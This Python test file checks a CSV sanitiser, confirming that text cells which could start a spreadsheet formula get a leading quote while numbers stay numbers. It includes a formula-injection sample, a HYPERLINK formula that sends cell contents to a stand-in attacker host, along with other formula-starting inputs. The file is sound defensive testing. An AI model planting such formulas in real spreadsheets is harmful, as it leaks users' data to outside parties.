"""CSV safe to open in a spreadsheet (core/csvsafe.py): no text cell starts a formula, numbers stay numbers."""

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.csvsafe import FORMULA_STARTS, csv_text, safe_cell

FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"Click")'


def cells_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize(
    "value",
    [
        FORMULA,
        "+1+1",
        "-2+3",
        "-x",
        "-12500",  # text, not a number: neutralised all the same
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
        "\uff1d1+1",  # full-width equals sign
        "\uff0b1",
        "\uff0d1",
        "\uff20SUM(A1)",
    ],
)
def test_a_text_cell_that_could_start_a_formula_gets_a_quote_in_front(value):
    assert safe_cell(value) == "'" + value
    assert cells_of(csv_text([["a", value]])) == [["a", "'" + value]]


@pytest.mark.parametrize("value", ["Cabai rawit", "BRI 0042", "2.5", "2026-11-28", "SHU 2025", "", "a=b", "x-1", " "])
def test_text_that_starts_no_formula_is_written_as_it_is(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [-12500, 0, 90000, -1, Decimal("2.500"), Decimal("-3")])
def test_numbers_stay_numbers_negative_amounts_among_them(value):
    assert safe_cell(value) == value
    [[cell]] = cells_of(csv_text([[value]]))
    assert cell == str(value)


def test_none_is_an_empty_cell_and_a_bool_is_text():
    assert safe_cell(None) == ""
    assert safe_cell(True) == "True"


def test_every_cell_is_quoted_so_a_separator_in_a_text_starts_no_new_cell():
    text = csv_text([["Kain;=1+1", "a,=b", -5]])
    assert text == '"Kain;=1+1","a,=b","-5"\r\n'
    # read as a spreadsheet set to split on semicolons (as in Indonesia) reads it: no cell starts with "="
    cells = next(csv.reader(io.StringIO(text), delimiter=";"))
    assert cells[0].startswith("Kain;=1+1") and not any(cell.startswith("=") for cell in cells)


@given(st.lists(st.lists(st.one_of(st.text(), st.integers(), st.none()), max_size=6), max_size=6))
def test_no_text_cell_read_back_starts_a_formula(rows):
    for row, read in zip(rows, cells_of(csv_text(rows)), strict=True):
        for written, cell in zip(row, read, strict=True):
            if isinstance(written, int):
                assert cell == str(written)
            else:
                assert not cell.startswith(FORMULA_STARTS)
